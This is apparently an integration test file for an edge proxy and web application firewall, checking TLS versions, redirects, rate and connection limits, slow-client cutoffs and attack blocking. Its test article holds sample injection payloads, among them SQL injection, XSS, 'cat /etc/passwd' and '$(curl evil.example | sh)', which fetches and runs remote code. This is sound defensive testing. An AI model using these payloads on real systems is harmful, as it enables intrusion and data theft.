import { connect as connectTcp } from 'node:net';
import { connect as connectTls, type SecureVersion } from 'node:tls';
import { execa } from 'execa';
import { attacks } from '../../roles/edge/attacks/attacks.ts';
import { explainMiss } from '../../roles/edge/attacks/known-misses.ts';
import { sendAttacks } from '../../roles/edge/attacks/send-attack.ts';
import { waitFor } from '../../scripts/waiting/wait.ts';
import { runLab } from '../cluster/support/command.ts';
import { send, sendMany, sendWithoutTls } from './support/edge-client.ts';
import { marks, test } from './support/edge-test.ts';
import { sendSlowly } from './support/send-slowly.ts';

let slow: Promise<string>;
/** The addresses that open many connections, one for each way in. */
const from = { port: '127.0.0.7', http: '127.0.0.6' };

test.before('a client that sends slowly, while the other tests run', async (t) => {
  slow = sendSlowly(t.context.place);
});

test('the lab is whole with it, and each host says what it does', async (t) => {
  await t.context.lab.waitUntilAllWork();
  const { stdout } = await runLab(['status']);
  t.regex(stdout, /^edge +Edge +https:\/\/127\.0\.0\.1:\d+ +2 of 2 cdn hosts routed +3\./m);
  t.regex(stdout, /^cdn-2 +nginx +http:\/\/127\.0\.0\.1:\d+ +answers, routed +1\./m);
});

test('articles about SQL, shells and HTML pass, and names with a dot, passwords and addresses of any kind', async (t) => {
  const { place, author } = t.context;
  const article = {
    title: `Why ' OR 1=1 -- works ${marks}`,
    description: "<script>alert('x')</script> and UNION SELECT password FROM users",
    body: `cat /etc/passwd; $(curl evil.example | sh) {{7*7}} <img src=x onerror=alert(1)> DROP TABLE users;
      A client sends GET /api/tags HTTP/1.1 and a String of Java is a java.lang.String.`,
    tagList: ["x' or '1'='1", '<svg/onload=alert(1)>'],
  };
  const made = await send(place, '/api/articles', { method: 'POST', token: author.token, json: { article } });
  t.is(made.status, 200, made.text);
  t.is(made.body.article.body, article.body);
  const path = `/api/articles/${made.body.article.slug}/comments`;
  const json = { comment: { body: "'; exec xp_cmdshell('dir'); -- <iframe src=javascript:alert(1)>" } };
  t.is((await send(place, path, { method: 'POST', token: author.token, json })).status, 200);
  t.is((await send(place, `/api/profiles/edge.${marks}`)).status, 200);
  const user = { bio: "Robert'); DROP TABLE students;--", image: 'http://192.0.2.1/a.png' };
  t.is((await send(place, '/api/user', { method: 'PUT', token: author.token, json: { user } })).status, 200);
  for (const url of [`http://192.0.2.1/${marks}`, `https://example.com/${marks}?`]) {
    const added = await send(place, '/api/webhooks', {
      method: 'POST',
      token: author.token,
      json: { webhook: { url } },
    });
    t.is(added.body.webhook?.url, url, added.text);
  }
});

test('what attackers send is blocked, in the shape of the API’s errors and with the id of the request', async (t) => {
  const { place } = t.context;
  const refused = await send(place, '/api/articles?tag=x%27%20or%201=1--', { headers: { 'X-Request-Id': 'mine-1' } });
  t.is(refused.status, 403);
  t.is(refused.body.errors.status_code, 403);
  t.is(refused.headers['x-request-id'], 'mine-1');
  const outcomes = await sendAttacks(attacks, { ...place, authority: place.ca });
  t.deepEqual(
    outcomes.filter(({ verdict }) => verdict === 'none'),
    [],
  );
  const missed = outcomes.filter(({ verdict }) => verdict === 'missed');
  t.deepEqual(
    missed.filter(({ attack }) => explainMiss(attack) === undefined),
    [],
  );
  t.true(missed.length * 4 < attacks.length);
});

const versions: [SecureVersion, boolean][] = [
  ['TLSv1.1', false],
  ['TLSv1.2', true],
  ['TLSv1.3', true],
];
for (const [version, isSpoken] of versions) {
  test(`${version} is ${isSpoken ? '' : 'not '}spoken`, async (t) => {
    const { address, port, ca } = t.context.place;
    const spoken = await new Promise((resolve) => {
      const limits = { minVersion: version, maxVersion: version, ciphers: 'DEFAULT@SECLEVEL=0' };
      const socket = connectTls({ host: address, port, ca, servername: 'localhost', ...limits });
      socket.once('secureConnect', () => resolve(socket.getProtocol())).once('error', () => resolve(false));
      socket.once('secureConnect', () => socket.end());
    });
    t.is(spoken, isSpoken && version);
  });
}

test('pages come as files, over HTTP/1.1, HTTP/2 and, where curl speaks it, HTTP/3', async (t) => {
  const { place } = t.context;
  const page = await send(place, '/', { headers: { Accept: 'text/html' } });
  t.regex(page.text, /<div id="root">|<script type="module"/);
  t.regex(String(page.headers['content-security-policy']), /script-src 'self'/);
  const asset = /\/assets\/[\w-]+\.js/.exec(page.text)?.[0] ?? '';
  t.regex(String((await send(place, asset)).headers['cache-control']), /immutable/);
  const [answer] = await sendMany(place, '/api/tags', { count: 1, from: '127.0.0.1' });
  t.is(answer?.[':status'], 200);
  const { stdout } = await execa('curl', ['--version'], { reject: false });
  if (!/\bHTTP3\b/.test(stdout ?? '')) return t.log('this curl does not speak HTTP/3');
  const args = ['--insecure', '--silent', '--http3-only', '--write-out', '%{http_version}', '--output', '/dev/null'];
  t.is((await execa('curl', [...args, `https://localhost:${place.port}/`])).stdout, '3');
});

test('plain HTTP leads to TLS, and a browser is told to stay there', async (t) => {
  const { place } = t.context;
  const answer = await sendWithoutTls(place, '/article/x?y=1', `127.0.0.1:${place.http}`);
  t.is(answer.status, 308);
  t.is(answer.location, `https://127.0.0.1:${place.port}/article/x?y=1`);
  // As the browser of a person whose computer forwards its ports to a machine.
  t.is((await sendWithoutTls(place, '/x', 'localhost:8480')).location, 'https://localhost:8443/x');
  const { headers } = await send(place, '/api/tags');
  t.is(headers['strict-transport-security'], 'max-age=31536000');
  const local = await send(place, '/api/tags', { headers: { Host: `localhost:${place.port}` } });
  t.is(local.headers['strict-transport-security'], undefined);
});

test('who a client is, is what the edge sees, whatever the client says', async (t) => {
  const { place, lab } = t.context;
  const forged = { 'X-Forwarded-For': '192.0.2.1', 'X-Real-IP': '192.0.2.1', Forwarded: 'for=192.0.2.1' };
  const path = `/api/profiles/forged-${marks}`;
  await send(place, path, { from: '127.0.0.9', headers: { ...forged, 'X-Forwarded-Hop': 'guessed' } });
  const read = async () => {
    const lines: string[] = [];
    for (const name of ['cdn-1', 'cdn-2']) {
      for await (const line of lab.lab.target.logs({ name }, { lines: 200, follow: false })) lines.push(line);
    }
    return lines.find((line) => line.includes(path));
  };
  const line = await waitFor(read, { what: 'the request in a log', timeoutMs: 10_000 });
  t.is(JSON.parse(line).client, '127.0.0.9');
});

test('an address that asks too often is told so, and no other is', async (t) => {
  const { place } = t.context;
  const answers = await sendMany(place, '/.none', { count: 1_200, from: '127.0.0.8' });
  t.is(answers[0]?.[':status'], 404);
  const last = answers.at(-1) ?? {};
  t.is(last[':status'], 429);
  t.is(last['retry-after'], '10');
  t.regex(String(last['ratelimit-policy']), /"edge-address";q=1000;w=10/);
  t.regex(String(last.ratelimit), /"edge-address";r=0;t=10/);
  t.is((await send(place, '/api/tags', { from: '127.0.0.9' })).status, 200);
});

for (const way of ['port', 'http'] as const) {
  test(`an address holds so many connections ${way === 'port' ? 'to TLS' : 'without TLS'}`, async (t) => {
    const { place } = t.context;
    const open = () =>
      new Promise<boolean>((resolve) => {
        const socket = connectTcp({ host: place.address, port: place[way], localAddress: from[way] });
        sockets.push(socket);
        socket.once('close', () => resolve(false)).once('error', () => resolve(false));
        socket.once('connect', () => setTimeout(resolve, 1_000, true));
      });
    const sockets: ReturnType<typeof connectTcp>[] = [];
    const kept = await Promise.all(Array.from({ length: 230 }, open));
    for (const socket of sockets) socket.destroy();
    t.is(kept.filter(Boolean).length, 200);
    t.is((await send(place, '/api/tags', { from: '127.0.0.9' })).status, 200);
  });
}

test('a client that sends too slowly is cut off', async (t) => {
  t.regex(await slow, /^HTTP\/1\.[01] 408 /);
});
